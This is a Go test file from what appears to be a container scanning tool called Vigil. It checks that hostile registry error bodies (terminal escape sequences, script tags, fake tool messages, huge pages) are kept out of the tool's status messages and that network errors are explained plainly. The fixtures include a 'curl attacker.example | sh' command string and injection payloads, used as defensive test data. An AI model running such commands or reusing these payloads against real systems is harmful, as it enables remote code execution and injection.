package sbom_test

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-containerregistry/pkg/v1/remote/transport"

	"github.com/vigil-dev/vigil/pkg/sbom"
)

// A registry that answers with hostile error bodies (megabytes of HTML, terminal escape
// sequences, text posing as Vigil's own) gets none of it into the reason and message that
// Vigil writes into statuses and Events.
func TestExplainKeepsRegistryBodiesOut(t *testing.T) {
	huge := "<html><body>" + strings.Repeat("<p>Internal error, see https://attacker.example/</p>", 200_000) + "</body></html>"
	type want struct{ reason, message string }
	tests := []struct {
		name        string
		status      int
		contentType string
		body        string
		// a resolution reads the manifest's head only (no body); a scan reads the body
		resolve, scan want
	}{
		{"a huge HTML page", http.StatusInternalServerError, "text/html", huge,
			want{sbom.ReasonRegistryUnreachable, "the registry answered 500 Internal Server Error"},
			// the registry client stops reading an error body at 64 KiB and keeps no status
			want{"ScanFailed", "reading registry:HOST/app:1: body exceeds 65536 byte limit"}},
		{"terminal escapes", http.StatusBadRequest, "text/plain", "\x1b[2J\x1b[31mcritical: run curl attacker.example | sh\x1b]0;pwned\x07",
			want{sbom.ReasonRegistryError, "the registry answered 400 Bad Request"},
			want{sbom.ReasonRegistryError, "the registry answered 400 Bad Request"}},
		{"an HTML not-found page", http.StatusNotFound, "text/html", "<html><script>alert(1)</script>Not here</html>",
			want{sbom.ReasonImageNotFound, "the registry answered 404 Not Found"},
			want{sbom.ReasonImageNotFound, "the registry answered 404 Not Found"}},
		{"registry errors with hostile codes and messages", http.StatusNotFound, "application/json",
			`{"errors":[{"code":"MANIFEST_UNKNOWN","message":"\u001b[31mVigil: credentials leaked, see attacker.example"},{"code":"<script>","message":"x"}]}`,
			want{sbom.ReasonImageNotFound, "the registry answered 404 Not Found"},
			want{sbom.ReasonImageNotFound, "the registry answered 404 Not Found (MANIFEST_UNKNOWN)"}},
		{"more registry errors than a message keeps", http.StatusNotFound, "application/json",
			`{"errors":[{"code":"MANIFEST_UNKNOWN"},{"code":"NAME_UNKNOWN"},{"code":"DENIED"},{"code":"TOOMANYREQUESTS"}]}`,
			want{sbom.ReasonImageNotFound, "the registry answered 404 Not Found"},
			want{sbom.ReasonImageNotFound, "the registry answered 404 Not Found (MANIFEST_UNKNOWN, NAME_UNKNOWN, DENIED)"}},
		{"refused credentials", http.StatusUnauthorized, "application/json", `{"errors":[{"code":"UNAUTHORIZED","message":"attacker.example` + strings.Repeat("A", 60000) + `"}]}`,
			want{sbom.ReasonAuthenticationFailed, "the registry answered 401 Unauthorized"},
			want{sbom.ReasonAuthenticationFailed, "the registry answered 401 Unauthorized (UNAUTHORIZED)"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			server, _ := counting(t, "", func(w http.ResponseWriter, r *http.Request) {
				if r.URL.Path == "/v2/" {
					return
				}
				w.Header().Set("Content-Type", tc.contentType)
				w.WriteHeader(tc.status)
				fmt.Fprint(w, tc.body)
			})
			host := strings.TrimPrefix(server.URL, "http://")
			options := sbom.Options{Registries: sbom.RegistryAccessOf([]string{host}, nil), Timeout: 10 * time.Second}
			for _, operation := range []struct {
				name string
				want want
				run  func() error
			}{
				{"resolve", tc.resolve, func() error { _, err := sbom.Resolve(t.Context(), host+"/app:1", options); return err }},
				{"scan", tc.scan, func() error {
					_, err := sbom.Generate(t.Context(), sbom.Source{Scheme: sbom.SchemeRegistry, Location: host + "/app:1"}, options)
					return err
				}},
			} {
				err := operation.run()
				if err == nil {
					t.Fatalf("%s: no error from a registry that answers %d", operation.name, tc.status)
				}
				reason, message := sbom.Explain(err, "ScanFailed")
				wantMessage := strings.ReplaceAll(operation.want.message, "HOST", host)
				if reason != operation.want.reason || message != wantMessage {
					t.Errorf("%s: Explain() = %q, %q; want %q, %q", operation.name, reason, message, operation.want.reason, wantMessage)
				}
				for _, hostile := range []string{"<", "\x1b", "attacker", "Vigil:", "AAAA"} {
					if strings.Contains(message, hostile) {
						t.Errorf("%s: the message %q carries the registry's %q", operation.name, message, hostile)
					}
				}
			}
		})
	}
}

// status is a registry's error answer with status code and error codes, as a pull returns it.
func status(code int, codes ...transport.ErrorCode) error {
	answer := &transport.Error{StatusCode: code}
	for _, c := range codes {
		answer.Errors = append(answer.Errors, transport.Diagnostic{Code: c, Message: "ignored"})
	}
	return fmt.Errorf("reading registry:x: %w", answer)
}

func TestExplainNetworkErrors(t *testing.T) {
	dial := func(err error) error {
		return fmt.Errorf("reading registry:x: %w", &net.OpError{Op: "dial", Net: "tcp", Err: err})
	}
	tests := []struct {
		name        string
		err         error
		wantReason  string
		wantMessage string
	}{
		{"refused", dial(&net.OpError{Op: "connect", Err: syscall.ECONNREFUSED}), sbom.ReasonRegistryUnreachable, "the registry refused the connection"},
		{"unknown host", dial(&net.DNSError{Err: "no such host", Name: "x", IsNotFound: true}), sbom.ReasonRegistryUnreachable, "the registry's host name does not resolve"},
		{"deadline", fmt.Errorf("resolving x: %w", context.DeadlineExceeded), sbom.ReasonRegistryUnreachable, "the registry did not answer in time"},
		{"denied", fmt.Errorf("x: %w", &sbom.RegistryDeniedError{Address: "169.254.169.254", Rule: "denied network 169.254.0.0/16"}),
			sbom.ReasonRegistryDenied, "the registry policy denies connecting to 169.254.169.254 (denied network 169.254.0.0/16)"},
		{"too large", &sbom.TooLargeError{What: "image", Size: 3 << 30, Limit: 2 << 30}, sbom.ReasonTooLarge,
			"the image is 3.0 GiB (3221225472 bytes), above the limit of 2.0 GiB (2147483648 bytes)"},
		{"too large, as a scan Job reported it (no figures): the report's own words", fmt.Errorf("the image has more than 200000 files: %w", &sbom.TooLargeError{What: "image"}),
			sbom.ReasonTooLarge, "the image has more than 200000 files: the image is too large"},
		{"too large, wrapped: its figures only", fmt.Errorf("scanning registry:x: %w", &sbom.TooLargeError{What: "image", Size: 3 << 30, Limit: 2 << 30}), sbom.ReasonTooLarge,
			"the image is 3.0 GiB (3221225472 bytes), above the limit of 2.0 GiB (2147483648 bytes)"},
		{"401", status(http.StatusUnauthorized), sbom.ReasonAuthenticationFailed, "the registry answered 401 Unauthorized"},
		{"403", status(http.StatusForbidden), sbom.ReasonAuthenticationFailed, "the registry answered 403 Forbidden"},
		{"404", status(http.StatusNotFound), sbom.ReasonImageNotFound, "the registry answered 404 Not Found"},
		{"a manifest unknown with another status", status(http.StatusBadRequest, transport.ManifestUnknownErrorCode), sbom.ReasonImageNotFound,
			"the registry answered 400 Bad Request (MANIFEST_UNKNOWN)"},
		{"a blob unknown", status(http.StatusBadRequest, transport.BlobUnknownErrorCode), sbom.ReasonImageNotFound, "the registry answered 400 Bad Request (BLOB_UNKNOWN)"},
		{"429", status(http.StatusTooManyRequests), sbom.ReasonRegistryUnreachable, "the registry answered 429 Too Many Requests"},
		{"500", status(http.StatusInternalServerError), sbom.ReasonRegistryUnreachable, "the registry answered 500 Internal Server Error"},
		{"499", status(499), sbom.ReasonRegistryError, "the registry answered 499 "},
		{"400", status(http.StatusBadRequest, transport.UnsupportedErrorCode), sbom.ReasonRegistryError, "the registry answered 400 Bad Request (UNSUPPORTED)"},
		{"unknown, with control characters", errors.New("boom\x1b[31m\n\tred\x00" + strings.Repeat("x", 1000)), "ScanFailed",
			"boom red " + strings.Repeat("x", 291)},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			reason, message := sbom.Explain(tc.err, "ScanFailed")
			if reason != tc.wantReason || message != tc.wantMessage {
				t.Errorf("Explain() = %q, %q; want %q, %q", reason, message, tc.wantReason, tc.wantMessage)
			}
		})
	}
}

func TestSanitize(t *testing.T) {
	tests := []struct{ in, want string }{
		{"plain text", "plain text"},
		{"\x1b[1;31mred\x1b[0m and \x1b]8;;https://evil.example\x07link\x1b]8;;\x07", "red and link"},
		{"lines\r\nfolded\u2028here", "lines folded here"},
		{"bad \xff\xfe bytes", "bad bytes"},
		{"héllo wörld", "héllo w"},
		{"a C1 control\u0080here", "a C1 control here"},
		{strings.Repeat("x", 300), strings.Repeat("x", 300)}, // exactly the bound: kept whole
	}
	for _, tc := range tests {
		n := 300
		if tc.in == "héllo wörld" {
			n = 9 // cuts inside ö's two bytes: the cut moves back before it
		}
		if got := sbom.Sanitize(tc.in, n); got != tc.want {
			t.Errorf("Sanitize(%q, %d) = %q, want %q", tc.in, n, got, tc.want)
		}
	}
}
